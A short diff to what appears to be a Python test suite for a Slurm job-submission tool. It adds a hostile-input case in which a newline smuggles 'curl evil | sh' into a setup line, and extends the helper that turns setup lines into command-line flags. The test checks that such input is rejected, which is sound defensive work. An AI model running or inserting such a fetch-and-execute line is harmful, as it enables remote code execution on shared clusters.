@@ -21,6 +21,7 @@ HOSTILE = [
     ({"account": "a\tb"}, "control characters"),
     ({"mem_gb": 1e-12}, "less than 1 MB"),
     ({"sbatch_args": {"mem-per-cpu": "0"}}, "all of a node's memory"),
+    ({"setup": ["module load cuda\ncurl evil | sh"]}, "one line each"),
 ]
 
 
@@ -29,6 +30,8 @@ def _command_line(res: dict) -> list:
     for key, value in res.items():
         if key == "sbatch_args":
             out += [f"--sbatch={k}" if v is True else f"--sbatch={k}={v}" for k, v in value.items()]
+        elif key == "setup":
+            out += [f"--setup={line}" for line in value]
         elif key == "mem_gb":
             out += ["--mem", repr(value)]
         else:
